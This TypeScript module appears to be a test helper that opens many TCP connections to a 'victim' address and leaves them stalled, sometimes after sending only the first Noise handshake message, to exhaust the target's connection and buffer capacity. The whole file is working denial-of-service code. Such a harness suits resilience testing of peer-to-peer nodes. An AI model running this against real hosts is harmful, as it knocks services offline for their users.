import { createConnection, type Socket } from 'node:net'

/** The first Noise XX message a dialer sends: a u16 length of 32, then an ephemeral key (any 32 bytes). */
const NOISE_FIRST_MESSAGE = Buffer.concat([Buffer.from([0, 32]), Buffer.alloc(32, 9)])

/** Options of {@link halfOpenSockets}. */
export interface HalfOpenInit {
  /** The victim's `host:port`. */
  address: string
  count: number
  /**
   * What each socket sends after connecting: nothing, or the first Noise message and then nothing
   * (the victim answers with its own and waits for the third). @default 'nothing'
   */
  send?: 'nothing' | 'noise-first-message' | 'mixed'
  /** Source address of each socket (see attackerHost). @default the kernel's choice (127.0.0.1) */
  sourceHost?: (i: number) => string
  /** TCP connects in flight at once (the listen backlog drops SYNs beyond it). @default 200 */
  concurrency?: number
}

/** Sockets that connected and then stalled; `destroy()` resets them all. */
export interface HalfOpenSockets {
  /** Sockets still open now. */
  open(): number
  /** Sockets that closed so far: refused, reset or dropped by the victim. */
  closed(): number
  destroy(): void
}

/**
 * Opens `count` TCP connections to the victim that never complete a handshake. Reads nothing either
 * (paused), so whatever the victim writes stays in buffers. Resolves once every connect settled.
 */
export async function halfOpenSockets(init: HalfOpenInit): Promise<HalfOpenSockets> {
  const colon = init.address.lastIndexOf(':')
  const host = init.address.slice(0, colon).replace(/^\[|\]$/g, '')
  const port = Number(init.address.slice(colon + 1))
  const sockets = new Set<Socket>()
  let closed = 0
  let next = 0
  const connectOne = (i: number) =>
    new Promise<void>((resolve) => {
      const socket = createConnection({
        host,
        port,
        ...(init.sourceHost !== undefined ? { localAddress: init.sourceHost(i) } : {}),
      })
      sockets.add(socket)
      socket.on('error', () => {})
      socket.once('close', () => {
        sockets.delete(socket)
        closed++
        resolve()
      })
      socket.once('connect', () => {
        socket.pause()
        const mode = init.send ?? 'nothing'
        if (mode === 'noise-first-message' || (mode === 'mixed' && i % 2 === 1)) {
          socket.write(NOISE_FIRST_MESSAGE)
        }
        resolve()
      })
    })
  const worker = async () => {
    while (next < init.count) await connectOne(next++)
  }
  await Promise.all(Array.from({ length: Math.min(init.count, init.concurrency ?? 200) }, worker))
  return {
    open: () => sockets.size,
    closed: () => closed,
    destroy() {
      for (const s of sockets) s.destroy()
      sockets.clear()
    },
  }
}
